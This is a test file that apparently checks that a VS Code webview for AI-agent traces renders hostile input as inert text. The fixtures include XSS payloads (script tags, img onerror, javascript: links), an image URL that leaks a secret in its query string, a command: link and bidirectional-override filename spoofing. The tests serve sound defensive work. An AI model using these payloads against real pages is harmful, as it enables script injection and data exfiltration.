import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { TraceEvent } from '../../src/agent/event';
import { parseTrace } from '../../src/traces/readTrace';
import { damaged, randomTrace } from '../support/damage';
import { answered, failed, limited } from '../support/viewHarnessStory';
import { settle, show, time } from '../support/viewTests';

/** What would run a script, as it stands inside a JSON string. */
const INJECTED = '<img src=x onerror=window.ran=1><script>window.ran=1</script>[x](javascript:window.ran=1)';

/** The real view in Chromium, with the real host side; only VS Code around it is missing. */
describe('what a trace holds', () => {
  it('shows everything as it was written, and nothing runs or leaves', async () => {
    const nasty =
      'Vec<T> <COMPANY>Adobe</COMPANY> <br> </script><script>window.ran=1</script><img src=x onerror="window.ran=1"> &lt; \u0000 \ud800 \u202Egnp.exe';
    const shown =
      'Vec<T> <COMPANY>Adobe</COMPANY> <br> </script><script>window.ran=1</script><img src=x onerror="window.ran=1"> &lt; ␀ \ufffd ⟨U+202E⟩gnp.exe';
    const answer = `${nasty}\n\n![x](https://host.example/p.png?q=SECRET) [run](command:workbench.action.terminal.new)`;
    const events: TraceEvent[] = [
      { ...answered[0]!, question: nasty, model: nasty } as TraceEvent,
      { type: 'reasoning', time, step: 1, text: nasty },
      { type: 'thought', time, step: 1, text: nasty },
      { type: 'action', time, step: 1, tool: nasty, input: nasty },
      { type: 'notice', time, step: 1, kind: 'security', text: nasty },
      {
        type: 'observation',
        time,
        step: 1,
        text: nasty,
        ok: true,
        ms: 1,
        document: { title: nasty, url: 'javascript:window.ran=1', fetchedAt: time, hash: '' },
      },
      {
        type: 'run-end',
        time,
        outcome: 'answered',
        answer,
        sources: [{ title: nasty, url: 'javascript:window.ran=1', steps: [1] }],
        steps: 1,
        ms: 1,
      },
    ];
    const view = await show(events, 'ended', { height: 1600 });
    const { page } = view;
    for (const place of [
      'h1',
      '.thought',
      '.act .tool',
      '.act .input',
      '.notice .prose',
      '.observed .prose',
      '.source bdi',
      '.sources bdi',
      '.markdown p',
    ]) {
      assert.ok((await page.locator(place).first().textContent())?.startsWith(shown), place);
    }
    assert.equal(await page.locator('img, a[href^="javascript"], .markdown a').count(), 0);
    await page.locator('.source button').click();
    await page.locator('.sources button').first().click();
    assert.equal(await page.evaluate('window.ran'), undefined);
    assert.deepEqual(view.opened, []);
  });

  it('survives any trace that a file may hold', async () => {
    const view = await show(answered, 'ended');
    const texts = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom('', '$$', '```', '|a|\n|-|', '[x](y)', '\u202e'),
    );
    const event = fc.constantFrom(...answered, ...failed, ...limited).chain((one) =>
      fc
        .record({ step: fc.integer({ min: 1, max: 60 }), text: texts, number: fc.integer() })
        .map(({ step, text, number }) =>
          JSON.parse(
            JSON.stringify({ ...one, ...('step' in one && { step }) }, (key, value) =>
              /^(text|answer|question|input|claim|title|url|raw|tool)$/.test(key) && number % 3 === 0 ? text : value,
            ),
            (key, value) => (/^(ms|start|end|sentence|prompt)$/.test(key) && number % 2 === 0 ? number : value),
          ),
        ),
    );
    const traces = fc.sample(fc.array(event, { maxLength: 40 }), { numRuns: 60, seed: 7 }) as TraceEvent[][];
    for (let seed = 1; seed <= 150; seed++) {
      const lines = randomTrace(seed).map((event) => `${JSON.stringify(event).replaceAll('Ada', INJECTED)}\n`);
      traces.push(parseTrace(damaged(lines, seed).text).events);
    }
    for (const events of traces) {
      view.source.show(events, 'ended');
      await view.page.evaluate('new Promise((done) => requestAnimationFrame(() => setTimeout(done)))');
    }
    assert.equal(await view.page.evaluate('window.ran'), undefined);
    view.source.show(answered, 'ended');
    await settle(view);
    assert.equal(await view.page.locator('.verdict').textContent(), '2 of 2 claims found word for word in the sources');
  });
});
